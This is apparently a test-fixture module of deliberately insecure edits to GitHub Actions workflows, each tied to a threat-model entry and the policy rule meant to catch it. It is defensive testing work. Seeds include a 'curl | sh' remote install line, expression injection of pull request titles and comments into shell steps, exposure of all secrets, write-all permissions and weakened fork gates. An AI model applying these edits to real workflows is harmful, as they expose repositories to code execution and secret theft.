"""Bad edits of the real workflow files, each with the threat it opens and the rule that must name it."""

from dataclasses import dataclass

from tests.workflows.workflow_file import WORKFLOWS


@dataclass(frozen=True, slots=True)
class Seed:
    """One edit: the first ``old`` after ``after`` becomes ``new``.

    Args:
        threat: of docs/threat-model.md.
        rule: of tests/workflows/policy.py, or ``parser`` for what GitHub's own parser refuses.
    """

    name: str
    threat: str
    file: str
    after: str
    old: str
    new: str
    rule: str

    def edited(self) -> tuple[str, range]:
        """The file with the edit, and the lines it touches."""
        text = (WORKFLOWS / self.file).read_text(encoding="utf-8")
        assert self.after in text, f"{self.name}: `{self.after}` is not in {self.file}"
        start = text.index(self.old, text.index(self.after))
        first = text.count("\n", 0, start) + 1
        return text[:start] + self.new + text[start + len(self.old) :], range(first, first + self.new.count("\n") + 1)


_HEAD_OF_THE_EVENT = "${{ github.event.pull_request.head.sha }}"
_SHA = "3d3c42e5aac5ba805825da76410c181273ba90b1"

SEEDS = (
    # T1: a stranger's code with something in reach.
    Seed("secret-in-execute", "T1", "preview.yml", "  execute:", "          SHA:",
         "          WANDB_API_KEY: ${{ secrets.WANDB_API_KEY }}\n          SHA:", "secrets-where-they-belong"),
    Seed("rights-in-execute", "T1", "preview.yml", "  execute:", "permissions: {}",
         "permissions:\n      contents: read  # the checkout", "execute-has-no-right"),
    Seed("environment-in-execute", "T1", "preview.yml", "  execute:", "    permissions: {}",
         "    environment: notebooks\n    permissions: {}", "secrets-where-they-belong"),
    Seed("head-in-publish", "T1", "pr.yml", "  publish:", "ref: ${{ github.event.repository.default_branch }}",
         f"ref: {_HEAD_OF_THE_EVENT}", "checkouts-are-plain"),
    Seed("merge-in-publish", "T1", "pr.yml", "  publish:",
         "          ref: ${{ github.event.repository.default_branch }}  # no code of the pull request runs here\n", "",
         "checkouts-are-plain"),
    Seed("write-in-build", "T1", "pr.yml", "  build:", "contents: read", "contents: write", "least-rights"),
    Seed("build-in-publish", "T1", "pr.yml", "  publish:",
         '.venv-steps/bin/python -m generator.steps publish-preview --from "$RUNNER_TEMP/built"',
         ".venv/bin/python -m generator.steps build", "steps-of-p"),
    Seed("forks-are-published", "T1", "pr.yml", "  publish:",
         "      github.event.pull_request.head.repo.full_name == github.repository &&\n", "", "conditions-hold"),
    Seed("target-on-every-push", "T1", "preview.yml", "pull_request_target", "types: [closed]",
         "types: [opened, synchronize]", "triggers-are-narrow"),
    Seed("workflow-run", "T1", "pr.yml", "on:", "  pull_request:",
         "  pull_request:\n  workflow_run:\n    workflows: [site]", "triggers-are-narrow"),
    # T2: what stays on the machine.
    Seed("token-left-behind", "T2", "preview.yml", "  execute:", "persist-credentials: false",
         "persist-credentials: true", "checkouts-are-plain"),
    Seed("token-in-execute", "T2", "preview.yml", "  execute:", "          SHA:",
         "          GH_TOKEN: ${{ github.token }}\n          SHA:", "tokens-where-they-belong"),
    # T3: caches.
    Seed("cache-of-strangers", "T3", "pr.yml", "Restore what", "actions/cache/restore@", "actions/cache/save@",
         "caches-are-the-default-branchs"),
    Seed("cache-in-preview", "T3", "preview.yml", "Fetch the runs",
         "actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c  # v8.0.1",
         "actions/cache/restore@27d5ce7f107fe9357f9df03efb73ab90386fccae  # v5.0.5", "caches-are-the-default-branchs"),
    # T4: artifacts.
    Seed("artifact-over-the-checkout", "T4", "preview.yml", "Fetch the preview", "${{ runner.temp }}/built", ".",
         "artifacts-stay-apart"),
    Seed("any-artifact", "T4", "pr.yml", "Fetch the preview", "          name: preview\n", "", "artifacts-stay-apart"),
    Seed("artifact-of-another-run", "T4", "pr.yml", "Fetch the preview", "          name: preview\n",
         "          name: preview\n          run-id: 1\n", "artifacts-stay-apart"),
    Seed("overwritten-artifact", "T4", "preview.yml", "Hand over the preview", "name: preview\n",
         "name: executed\n", "artifacts-stay-apart"),
    Seed("two-artifacts-in-one-folder", "T4", "experiments.yml", "Fetch what became of the notebook",
         "path: ${{ runner.temp }}/ran", "path: ${{ runner.temp }}/found", "artifacts-stay-apart"),
    # T5: text from outside in a shell.
    Seed("title-in-a-shell", "T5", "pr.yml", "  build:", "run: make environment",
         'run: echo "${{ github.event.pull_request.title }}"', "no-expression-in-run"),
    Seed("comment-in-a-shell", "T5", "preview.yml", "Who asks", "generator.steps gate",
         "generator.steps gate ${{ github.event.comment.body }}", "no-expression-in-run"),
    Seed("a-script-in-yaml", "T5", "site.yml", "  build:", "run: make environment",
         "run: |\n          curl -s https://example.org/install | sh", "runs-are-calls"),
    # T6: commands and files of the runner.
    Seed("environment-for-all", "T6", "preview.yml", "permissions: {}", "permissions: {}",
         "permissions: {}\nenv:\n  DEBUG: 1", "environment-is-clean"),
    Seed("another-shell", "T6", "preview.yml", "Run notebooks", "        run: .venv/bin/python",
         "        shell: bash -x {0}\n        run: .venv/bin/python", "runs-are-calls"),
    # T7: another commit than the one that was looked at.
    Seed("head-by-branch", "T7", "preview.yml", "  execute:", "    if: >-\n      needs.gate.outputs.go == 'true' &&",
         "    if: >-\n      needs.gate.result == 'success' &&", "conditions-hold"),
    Seed("render-without-the-gate", "T7", "preview.yml", "  render:",
         "if: ${{ !cancelled() && needs.gate.outputs.go == 'true' }}", "if: ${{ !cancelled() }}", "conditions-hold"),
    # T8: who may command.
    Seed("edited-comments", "T8", "preview.yml", "issue_comment", "types: [created]", "types: [created, edited]",
         "triggers-are-narrow"),
    Seed("bots-may-ask", "T8", "preview.yml", "  gate:", "      github.event.comment.user.type == 'User' &&\n", "",
         "conditions-hold"),
    # T11, T22: what a stranger's files lie among.
    Seed("strangers-files-at-the-root", "T22", "preview.yml", "  render:", "          path: pull-request\n", "",
         "checkouts-are-plain"),
    # T23: git's own tricks.
    Seed("submodules-of-strangers", "T23", "preview.yml", "  execute:", "submodules: false", "submodules: recursive",
         "checkouts-are-plain"),
    # T24: actions.
    Seed("a-tag-for-a-commit", "T24", "site.yml", "  build:", f"{_SHA}  # v7.0.1", "v7", "actions-are-pinned"),
    Seed("no-version-beside", "T24", "site.yml", "  build:", f"{_SHA}  # v7.0.1", _SHA, "actions-are-pinned"),
    Seed("somebody-elses-action", "T24", "site.yml", "  publish:", f"actions/checkout@{_SHA}",
         f"peaceiris/actions-gh-pages@{_SHA}", "actions-are-pinned"),
    Seed("two-commits-of-one-action", "T24", "refresh.yml", "  report:", _SHA, "a" * 40, "one-commit-an-action"),
    # T25: rights.
    Seed("rights-for-all", "T25", "site.yml", "permissions: {}", "permissions: {}", "permissions: write-all",
         "nothing-at-the-top"),
    Seed("a-right-too-many", "T25", "site.yml", "  publish:", "      contents: write",
         "      issues: write  # to tell\n      contents: write", "rights-are-listed"),
    Seed("a-right-without-reason", "T25", "setup.yml", "  setup:", "  # the branch inkmill/setup", "", "least-rights"),
    Seed("no-rights-said", "T25", "upgrade.yml", "  upgrade:",
         "    permissions:\n      contents: write  # the branch inkmill/upgrade\n"
         "      pull-requests: write  # the pull request\n"
         "      issues: write  # an issue, where Actions may open no pull request\n", "", "least-rights"),
    Seed("inherited-secrets", "T25", "site.yml", "  serve:", "    uses:", "    secrets: inherit\n    uses:",
         "secrets-where-they-belong"),
    Seed("all-secrets", "T25", "site.yml", "Build and check", "${{ secrets.WANDB_API_KEY }}",
         "${{ toJSON(secrets) }}", "secrets-where-they-belong"),
    Seed("a-personal-token", "T25", "refresh.yml", "Run what is due", "${{ secrets.WANDB_API_KEY }}",
         "${{ secrets.MY_PAT }}", "secrets-where-they-belong"),
    Seed("no-kind", "T25", "site.yml", "  build:", "  # kind: W", "", "kind-is-said"),
    # T26, T27: the published branch.
    Seed("a-writer-out-of-turn", "T26", "preview.yml", "  clean:", "group: gh-pages-writer", "group: previews",
         "writers-queue"),
    Seed("a-publish-cancelled", "T27", "site.yml", "  publish:", "cancel-in-progress: false",
         "cancel-in-progress: true", "writers-queue"),
    Seed("one-waits-at-most", "T27", "refresh.yml", "  keep:", "      queue: max\n", "", "writers-queue"),
    Seed("concurrency-of-all", "T27", "site.yml", "permissions: {}", "permissions: {}",
         "permissions: {}\nconcurrency: site", "writers-queue"),
    # T28: runners.
    Seed("a-runner-of-ones-own", "T28", "preview.yml", "  execute:", "runs-on: ubuntu-24.04", "runs-on: self-hosted",
         "runner-is-githubs"),
    Seed("an-image-of-somebodys", "T28", "site.yml", "  build:", "runs-on: ubuntu-24.04",
         "container: example/blog\n    runs-on: ubuntu-24.04", "runner-is-githubs"),
    # T29: minutes.
    Seed("no-time-limit", "T29", "preview.yml", "  execute:", "    timeout-minutes: 40\n", "", "job-is-bounded"),
    Seed("every-push-runs-on", "T29", "pr.yml", "  build:", "cancel-in-progress: true", "cancel-in-progress: false",
         "pull-requests-are-bounded"),
    Seed("refresh-in-forks", "T29", "refresh.yml", "  refresh:",
         " &&\n      (github.event_name != 'schedule' || !github.event.repository.fork)", "", "conditions-hold"),
    Seed("tests-in-every-blog", "T29", "ci.yml", "  test:", "    if: github.event.repository.is_template\n", "",
         "conditions-hold"),
    Seed("no-zone", "T29", "refresh.yml", "schedule", "      timezone: Etc/UTC\n", "", "triggers-are-narrow"),
    # T30: what is said in our name.
    Seed("a-failure-hidden", "T30", "pr.yml", "Fetch the preview",
         "  # without it the comment says that the build failed", "", "going-on-says-why"),
    Seed("a-branch-that-is-not-the-default", "T30", "site.yml", "  build:",
         "    if: github.ref == format('refs/heads/{0}', github.event.repository.default_branch)\n", "",
         "conditions-hold"),
    Seed("bots-are-shown-at-once", "T21", "pr.yml", "  publish:",
         "      (github.event.pull_request.user.type == 'User' ||"
         " github.event.pull_request.user.login == 'github-actions[bot]') &&\n", "", "conditions-hold"),
    # T32: a notebook of a pull request runs with the keys.
    Seed("a-fork-with-the-key", "T32", "experiments.yml", "  run:", "          ref: ${{ needs.gate.outputs.sha }}",
         "          repository: sam/notes\n          ref: ${{ needs.gate.outputs.sha }}", "checkouts-are-plain"),
    Seed("a-branch-with-the-key", "T32", "experiments.yml", "  run:", "ref: ${{ needs.gate.outputs.sha }}",
         "ref: refs/pull/${{ needs.gate.outputs.pr }}/head", "checkouts-are-plain"),
    Seed("run-without-the-gate", "T32", "experiments.yml", "  run:", "needs.gate.outputs.go == 'true' && ", "",
         "conditions-hold"),
    Seed("every-command-runs", "T32", "experiments.yml", "  run:", " && needs.gate.outputs.command == 'run'", "",
         "conditions-hold"),
    Seed("head-where-runs-are-asked-for", "T32", "experiments.yml", "  runs:", "          persist-credentials: false\n",
         "          persist-credentials: false\n          ref: ${{ needs.gate.outputs.sha }}\n", "checkouts-are-plain"),
    Seed("submodules-with-the-key", "T32", "experiments.yml", "  run:", "submodules: false", "submodules: true",
         "checkouts-are-plain"),
    Seed("token-for-the-notebook", "T32", "experiments.yml", "Run the notebook", "          SHA:",
         "          GH_TOKEN: ${{ github.token }}\n          SHA:", "tokens-where-they-belong"),
    Seed("rights-for-the-notebook", "T32", "experiments.yml", "  run:", "contents: read", "contents: write",
         "least-rights"),
    Seed("cache-of-a-branch", "T3", "experiments.yml", "  run:", "actions/checkout@",
         "actions/cache/restore@27d5ce7f107fe9357f9df03efb73ab90386fccae  # v5.0.5\n      - uses: actions/checkout@",
         "caches-are-the-default-branchs"),
    Seed("key-where-it-is-told", "T32", "experiments.yml", "        env:\n          GH_TOKEN: ${{ github.token }}\n"
         "          COMMAND", "          COMMAND",
         "          WANDB_API_KEY: ${{ secrets.WANDB_API_KEY }}\n          COMMAND", "secrets-where-they-belong"),
    # T33: something is deployed that nobody meant.
    Seed("deploy-without-the-gate", "T33", "experiments.yml", "  deploy:", "needs.gate.outputs.go == 'true' && ", "",
         "conditions-hold"),
    Seed("head-where-it-is-deployed", "T33", "experiments.yml", "  deploy:", "          persist-credentials: false\n",
         "          persist-credentials: false\n          ref: ${{ needs.gate.outputs.sha }}\n", "checkouts-are-plain"),
    Seed("two-deployments-at-once", "T33", "experiments.yml", "  deploy:", "group: experiments-deploy",
         "group: experiments-deploy-${{ github.run_id }}", "writers-queue"),
    Seed("a-deployment-cancelled", "T33", "experiments.yml", "  deploy:", "cancel-in-progress: false",
         "cancel-in-progress: true", "writers-queue"),
    Seed("deployments-where-a-test-starts", "T33", "experiments.yml", "  test:", "      actions: write",
         "      deployments: write  # to deploy\n      actions: write", "rights-are-listed"),
    Seed("commands-of-bots", "T8", "experiments.yml", "  gate:",
         "      github.event.comment.user.type == 'User' &&\n", "", "conditions-hold"),
    Seed("reports-from-any-branch", "T8", "experiments.yml", "  gate:",
         " &&\n      github.ref == format('refs/heads/{0}', github.event.repository.default_branch)", "",
         "conditions-hold"),
    Seed("edited-commands", "T8", "experiments.yml", "issue_comment", "types: [created]", "types: [created, edited]",
         "triggers-are-narrow"),
    Seed("any-ref-where-runs-are-asked-for", "T32", "experiments.yml", "  runs:",
         "          persist-credentials: false\n",
         "          persist-credentials: false\n          ref: ${{ github.event.inputs.sha }}\n", "checkouts-are-ours"),
    Seed("somebody-elses-engine-where-it-is-deployed", "T33", "experiments.yml", "  deploy:",
         "          persist-credentials: false\n",
         "          persist-credentials: false\n          repository: sam/notes\n", "checkouts-are-ours"),
    Seed("a-key-of-ones-own", "T32", "experiments.yml", "  runs:", "          persist-credentials: false\n",
         "          persist-credentials: false\n          ssh-key: ${{ vars.KEY }}\n", "checkouts-are-ours"),
    Seed("everybody-may", "T32", "experiments.yml", "  gate:", "go: ${{ steps.gate.outputs.go }}", "go: 'true'",
         "outputs-are-a-steps-own"),
    Seed("the-commit-that-somebody-names", "T32", "experiments.yml", "  gate:", "sha: ${{ steps.gate.outputs.sha }}",
         "sha: ${{ github.event.inputs.sha }}", "outputs-are-a-steps-own"),
    Seed("a-server-that-somebody-names", "T32", "experiments.yml", "Ask for the runs", "          COMMAND:",
         "          WANDB_BASE_URL: ${{ github.event.inputs.state }}\n          COMMAND:", "variables-are-listed"),
    Seed("modules-from-an-artifact", "T33", "experiments.yml", "Start the deployment", "          PR:",
         "          PYTHONPATH: ${{ runner.temp }}/found\n          PR:", "variables-are-listed"),
    Seed("believed-however-it-ended", "T33", "experiments.yml", "Start the deployment",
         "          RUNS_RESULT: ${{ needs.runs.result }}\n", "", "variables-are-listed"),
    Seed("the-runners-own-files-handed-on", "T32", "experiments.yml", "Hand over the runs",
         "path: ${{ runner.temp }}/runs", "path: ${{ runner.temp }}", "files-have-places"),
    Seed("one-artifact-within-another", "T33", "experiments.yml", "Fetch what became", "path: ${{ runner.temp }}/ran",
         "path: ${{ runner.temp }}/found/ran", "files-have-places"),
    Seed("a-script-in-the-workflow", "T24", "experiments.yml", "  report:", "actions/checkout@",
         "actions/github-script@", "actions-are-pinned"),
    Seed("a-notebook-in-a-shell", "T5", "experiments.yml", "Run the notebook", "run-notebook --output",
         "run-notebook ${{ needs.gate.outputs.notebook }} --output", "no-expression-in-run"),
    # What only GitHub's parser knows.
    Seed("a-key-that-is-none", "T31", "site.yml", "  publish:", "    needs: build", "    need: build", "parser"),
    Seed("a-job-that-is-not-there", "T31", "refresh.yml", "  report:", "needs: [refresh, keep, publish]",
         "needs: [refresh, keep, publisch]", "parser"),
)  # fmt: skip
